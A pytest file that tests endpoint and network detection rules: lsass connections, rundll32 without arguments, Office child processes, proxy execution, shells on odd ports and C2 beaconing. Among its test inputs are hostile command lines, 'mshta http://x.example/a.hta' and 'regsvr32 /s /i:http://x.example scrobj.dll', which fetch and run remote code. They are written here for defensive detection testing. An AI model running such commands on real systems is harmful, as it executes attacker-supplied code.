"""Each rule of detections/: what makes it find something, and what is so like it that it must not."""

from dataclasses import dataclass, replace
from typing import Any

import pytest

from infra.pipeline.detections.statements import read_rules
from tests.ksql.fusion import RULES, concluded
from tests.ksql.seen import Conn, Created, Listed, Seen
from tests.ksql.witnessed import conn, osquery, sysmon

IDS = {rule.path.stem: rule.rule_id for rule in read_rules(RULES)}
SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
INSIDE = "10.0.0.9"


@dataclass(frozen=True)
class Told:
    """A connection of a process: what of it makes the difference."""

    image: str
    command_line: str | None = None
    parent: str | None = None
    resp_h: str = "139.59.1.2"
    resp_p: int = 443
    listed: bool = False
    """Whether parent and command line are known from Osquery's inventory, and not from the birth."""


def seen(told: Told) -> list[Seen]:
    flow = conn(resp_h=told.resp_h, resp_p=told.resp_p)
    items: list[Seen] = [flow, sysmon(flow, name=told.image)]
    if told.command_line is not None and told.listed:
        items.append(
            Listed(
                ms=flow.ts,
                host="WIN10",
                pid=4242,
                path=told.image,
                command_line=told.command_line,
                parent=told.parent,
            )
        )
    elif told.command_line is not None:
        items.append(
            Created(
                ms=flow.ts - 1000,
                host="WIN10.lab.example",
                guid="{explorer}",
                command_line=told.command_line,
                parent=told.parent,
            )
        )
    return items


def found(items: list[Seen]) -> set[str]:
    names = {rule_id: name for name, rule_id in IDS.items()}
    return {names[rule_id] for _, rule_id in concluded(items).findings}


@pytest.mark.parametrize("late", [False, True], ids=["context known before", "context known after"])
@pytest.mark.parametrize(
    ("told", "expected"),
    [
        (Told("C:\\Windows\\explorer.exe"), {"no_network_business"}),
        (Told(SYSTEM32 + "notepad.exe"), {"no_network_business"}),
        (Told("C:\\Windows\\explorer.exe", resp_h=INSIDE), set()),
        (Told("C:\\Program Files\\Notepad++\\notepad++.exe"), set()),
        (Told("C:\\Program Files\\WindowsApps\\Microsoft.WindowsCalculator\\Calculator.exe"), set()),
        (Told(SYSTEM32 + "lsass.exe"), {"lsass_to_the_outside"}),
        (Told(SYSTEM32 + "lsass.exe", resp_h=INSIDE, resp_p=88), set()),
        (Told("C:\\x\\notlsass.exe"), set()),
        (Told(SYSTEM32 + "rundll32.exe", SYSTEM32 + "rundll32.exe"), {"rundll32_without_arguments"}),
        (Told(SYSTEM32 + "rundll32.exe", f'"{SYSTEM32}RUNDLL32.EXE" '), {"rundll32_without_arguments"}),
        (Told(SYSTEM32 + "rundll32.exe", "rundll32", resp_h=INSIDE, listed=True), {"rundll32_without_arguments"}),
        (Told(SYSTEM32 + "rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL"), set()),
        (Told(SYSTEM32 + "rundll32.exe"), set()),
        (Told(POWERSHELL, "powershell -enc IwA=", WORD), {"office_child"}),
        (Told(POWERSHELL, "powershell -enc IwA=", WORD, listed=True), {"office_child"}),
        (Told(POWERSHELL, "powershell -enc IwA=", WORD, resp_h=INSIDE), set()),
        (Told(POWERSHELL, "powershell", "C:\\Windows\\explorer.exe"), set()),
        (Told("C:\\Program Files\\Mozilla Firefox\\firefox.exe", "firefox", WORD), set()),
        (Told(SYSTEM32 + "mshta.exe", "mshta http://x.example/a.hta"), {"proxy_execution"}),
        (Told(SYSTEM32 + "regsvr32.exe", "regsvr32 /s /i:http://x.example scrobj.dll"), {"proxy_execution"}),
        (Told(SYSTEM32 + "regsvr32.exe", "regsvr32 /s a.dll", resp_h=INSIDE, resp_p=445), set()),
        (Told(SYSTEM32 + "wbem\\scrcons.exe", resp_p=80), {"proxy_execution"}),
        (Told(SYSTEM32 + "mshta.exe", "mshta http://x.example", WORD), {"proxy_execution", "office_child"}),
        (Told(POWERSHELL, resp_p=4444), {"shell_on_odd_port"}),
        (Told("C:\\Program Files\\PowerShell\\7\\pwsh.exe", resp_p=8443), {"shell_on_odd_port"}),
        (Told(POWERSHELL, resp_p=443), set()),
        (Told(POWERSHELL, resp_p=5985, resp_h=INSIDE), set()),
    ],
)  # fmt: skip
def test_a_rule_finds_what_it_is_about_and_nothing_like_it(
    told: Told, expected: set[str], late: bool
) -> None:
    items = seen(told)
    assert found(items if late else list(reversed(items))) == expected


def beacons(period: float, jitter: float, count: int, **rest: Any) -> list[Conn]:
    """Connections at an interval, earlier and later by a part of it in turns, as a fair coin rarely is."""
    return [
        conn(
            f"B{number}",
            at=round(1000 * period * (number + 1 + jitter * (((number * 7) % 5) / 2 - 1) / 2)),
            orig_p=50_000 + number,
            **rest,
        )
        for number in range(count)
    ]


def called(flows: list[Conn], image: str = "C:\\Users\\bob\\sync.exe") -> list[Seen]:
    return [item for flow in flows for item in (flow, sysmon(flow, name=image), osquery(flow, name=image))]


@pytest.mark.parametrize(("period", "jitter"), [(60, 0.0), (60, 0.2), (60, 0.4), (900, 0.1), (5, 0.0)])
def test_a_beacon_is_found_from_the_twelfth_call_on(period: float, jitter: float) -> None:
    flows = beacons(period, jitter, 15)
    assert {event for event, _ in concluded(called(flows)).findings} == {
        f"B{number}:originator" for number in (11, 12, 13, 14)
    }
    assert found(called(flows)) == {"beacon"}
    assert not concluded(called(flows[:11])).findings


def test_a_beacon_is_found_although_one_call_is_missing_or_doubled() -> None:
    flows = beacons(60, 0.1, 14)
    assert found(called([*flows[:6], *flows[7:]])) == {"beacon"}
    twice = [replace(flow, uid=f"{flow.uid}x", orig_p=flow.orig_p + 1000) for flow in flows]
    again = [conn(flow.uid, flow.ts + 40 - conn().ts, orig_p=flow.orig_p) for flow in twice]
    assert found(called([*flows, *again])) == {"beacon"}


def test_the_order_of_arrival_does_not_matter_to_a_beacon() -> None:
    flows = beacons(60, 0.2, 12)
    assert found(called(list(reversed(flows)))) == {"beacon"}


@pytest.mark.parametrize(
    "seconds",
    [
        [0, 1, 2, 3, 90, 91, 93, 200, 202, 203, 204, 400, 401, 402],
        [2**number for number in range(13)],
        [0, 8, 70, 75, 180, 181, 300, 480, 485, 490, 700, 705, 711],
    ],
    ids=["bursts", "ever more rarely", "as people read"],
)
def test_what_people_do_is_no_beacon(seconds: list[int]) -> None:
    flows = [conn(f"P{at}", at=1000 * at, orig_p=50_000 + at) for at in seconds]
    assert not concluded(called(flows)).findings


def test_regular_calls_within_the_network_are_no_beacon() -> None:
    assert not concluded(called(beacons(60, 0.0, 15, resp_h=INSIDE))).findings


def test_regular_calls_of_several_processes_are_no_beacon() -> None:
    flows = beacons(60, 0.0, 15)
    items: list[Seen] = [*flows]
    items += [sysmon(flow, name="C:\\a.exe", pid=4000 + number % 2) for number, flow in enumerate(flows)]
    assert not concluded(items).findings
